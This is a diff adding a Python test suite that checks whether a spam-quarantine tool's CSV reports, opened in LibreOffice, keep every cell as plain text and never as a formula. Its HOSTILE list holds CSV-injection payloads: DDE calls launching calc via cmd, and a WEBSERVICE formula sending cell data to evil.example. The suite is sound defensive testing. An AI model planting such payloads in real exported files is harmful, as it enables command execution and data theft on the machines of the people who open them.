@@ -1,0 +1,174 @@
+"""The CSV in a spreadsheet (LibreOffice): every cell comes back, and none is a formula."""
+
+import base64
+import csv
+import io
+import pathlib
+import sys
+import unittest
+
+sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent / "support"))
+import quarantine_case  # noqa: E402
+import runner  # noqa: E402
+import spreadsheet  # noqa: E402
+from quarantine_case import INCOMING, NOW, OLDER, OUTGOING  # noqa: E402
+
+BOM = b"\xef\xbb\xbf"
+
+PERIOD = [f"--timezone={quarantine_case.ZONE}", f"--since={OLDER}", "--until=2026-02-12",
+          "-i", "-o"]
+
+# What spammers may write where a spreadsheet computes.
+HOSTILE = [
+    "=1+1", "=cmd|'/c calc'!A1", "=2+5+cmd|'/C calc'!A0", '=HYPERLINK("http://evil.example/","x")',
+    '=WEBSERVICE("http://evil.example/"&A1)', "=SUM(1;2)", '=DDE("cmd";"/c calc";"x")', "==1", "=",
+    "+1", "+1+cmd|'/c calc'!A1", "-1", "-2+3", "@SUM(1)", "@", "+", "-", "--1",
+    "＝1+1", "＋1", "－1", "＠SUM(1)", " =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\u00a0=1+1",
+    "\u200b=1+1", "\ufeff=1+1", "'=1+1", '"=1+1"', '",=1+1,"', "{=1+1}", "=A1\x00",
+]
+
+# What a spreadsheet takes for something else than text, and then shows in another way.
+AMBIGUOUS = ["007", "1.50", "1e5", "0x10", "2026-02-11", "11.02.2026", "1/2", "12:30", "TRUE",
+             "12 %", "$5", "1,000", "1.000,5", "00491234567890123456789", "Infinity", "#N/A"]
+
+# Texts that a wrong character set would change.
+FOREIGN = ["Zoë", "Привет", "請立即付款", "עברית", "e\u0301", "👩‍👩‍👧", "½ €", "ｆｕｌｌ", "ß"]
+
+
+def table(data):
+    """CSV as lists of cells; a mark (BOM) in front does not count."""
+    return list(csv.reader(io.StringIO(data.removeprefix(BOM).decode(), newline=""), strict=True))
+
+
+def words(text):
+    return b"=?UTF-8?B?" + base64.b64encode(text.encode()) + b"?="
+
+
+def message(number, text):
+    """A message with a text in all places that end up in a grouped report."""
+    return b"\n".join([
+        b"From: " + words(text) + b" <h%d@sender.example>" % number,
+        b"To: victim@example.net",
+        b"Subject: " + words(text),
+        b"X-AuthUser: " + text.replace("\n", " ").replace("\r", " ").encode(),
+        b"X-PHP-Script: " + text.replace("\n", " ").replace("\r", " ").encode(),
+        b"", b""])
+
+
+@unittest.skipUnless(spreadsheet.find_soffice(),
+                     "soffice is missing (Debian package libreoffice-calc)")
+class Opened:
+    """What is tested of each report; OPTIONS is the one, which goes to standard output."""
+
+    OPTIONS = []
+    MINIMUM = len(HOSTILE)  # rows
+
+    @classmethod
+    def setUpClass(cls):
+        super().setUpClass()
+        cls.soffice = cls.enterClassContext(spreadsheet.Soffice())
+
+    @classmethod
+    def fill(cls, quarantine):
+        quarantine_case.load_samples(quarantine)
+        for number, text in enumerate(HOSTILE + AMBIGUOUS + FOREIGN):
+            quarantine.deliver((OUTGOING, INCOMING)[number % 2], message(number, text), NOW)
+
+    def saved(self, *options):
+        """(the report, the path of a file with it)"""
+        data = self.quiet_report(*PERIOD, *self.OPTIONS, *options).stdout
+        rows = table(data)
+        self.assertGreater(len(rows), self.MINIMUM, "too few to be of interest")
+        self.assertEqual({len(row) for row in rows}, {len(rows[0])})
+        path = self.directory / ("report" + "".join(options) + ".csv")
+        path.write_bytes(data)
+        return data, path
+
+    def assert_cells(self, ours, theirs):
+        self.assertEqual(len(ours), len(theirs), "rows")
+        for number, (our, their) in enumerate(zip(ours, theirs)):
+            for title, one, other in zip(ours[0], our, their, strict=True):
+                self.assertEqual(one, other, f"row {number}, {title}")
+
+    def test_comes_back_unchanged(self):
+        reports = [self.saved(), self.saved("--csv-bom"), self.saved("--raw-csv")]
+        copies = self.soffice.as_text([path for _, path in reports])
+        for (data, path), copy in zip(reports, copies, strict=True):
+            with self.subTest(report=path.name):
+                self.assert_cells(table(data), table(copy))
+
+    def test_bom(self):
+        plain, _ = self.saved()
+        marked, _ = self.saved("--csv-bom")
+        self.assertFalse(plain.startswith(BOM))
+        self.assertEqual(marked, BOM + plain)
+
+    def test_no_formula(self):
+        """As a user opens it: numbers become numbers, every other cell is the text we wrote."""
+        for option in ("", "--csv-bom"):
+            data, path = self.saved(*filter(None, [option]))
+            for special in (False, True):
+                with self.subTest(option=option, special_numbers=special):
+                    [opened] = self.soffice.as_opened([path], special)
+                    self.assert_only_text_and_numbers(table(data), opened)
+
+    def assert_only_text_and_numbers(self, ours, opened):
+        self.assertEqual(len(ours), len(opened), "rows")
+        kinds = set()
+        for number, (our, their) in enumerate(zip(ours, opened)):
+            their = their + [None] * (len(our) - len(their))  # the empty ones at the end
+            for title, text, cell in zip(ours[0], our, their, strict=True):
+                where = f"row {number}, {title}: {text!r} -> {cell}"
+                if cell is None or cell.kind is None:
+                    self.assertEqual(text, "", where)
+                    continue
+                self.assertIsNone(cell.formula, where)
+                kinds.add(cell.kind)
+                if cell.kind == "string":
+                    self.assertEqual(cell.text, text, where)
+                else:
+                    # The guard stands in front of all that begins with a sign.
+                    self.assertRegex(text, r"^[$\d]|^TRUE$", where)
+                if title in ("#", "UID", "Count", "Sample UID", "Spam Count"):
+                    self.assertEqual((cell.kind, cell.value), ("float", text) if number else
+                                     ("string", None), where)
+        self.assertIn("string", kinds)
+        self.assertIn("float", kinds)
+
+    def test_raw_has_formulas(self):
+        """Without the guard the same cells are formulas: the test above can fail."""
+        data, path = self.saved("--raw-csv")
+        [opened] = self.soffice.as_opened([path])
+        computed = {text for our, their in zip(table(data), opened, strict=True)
+                    for text, cell in zip(our, their) if cell.formula is not None}
+        for text in ("=1+1", "=cmd|'/c calc'!A1", "=SUM(1;2)"):
+            self.assertTrue(any(one.startswith(text) for one in computed), f"{text}: {computed}")
+        self.assertEqual({text[0] for text in computed}, {"="})
+
+
+class Messages(Opened, quarantine_case.QuarantineTest):
+    OPTIONS = ["--csv=-", "--columns=all"]
+
+
+class DefaultColumns(Opened, quarantine_case.QuarantineTest):
+    OPTIONS = ["--csv=-"]
+
+
+class Groups(Opened, quarantine_case.QuarantineTest):
+    OPTIONS = ["--csv=-", "--group-by=From,Subject"]
+
+
+class Identities(Opened, quarantine_case.QuarantineTest):
+    OPTIONS = ["--csv=-", "--group-by=Identity"]
+
+
+class IdentityReport(Opened, quarantine_case.QuarantineTest):
+    OPTIONS = ["--identity-report=-"]
+
+    def test_bom(self):
+        """The programs that read the filter's own report know no mark."""
+        self.assertEqual(self.saved("--csv-bom")[0], self.saved()[0])
+
+
+if __name__ == "__main__":
+    runner.main()
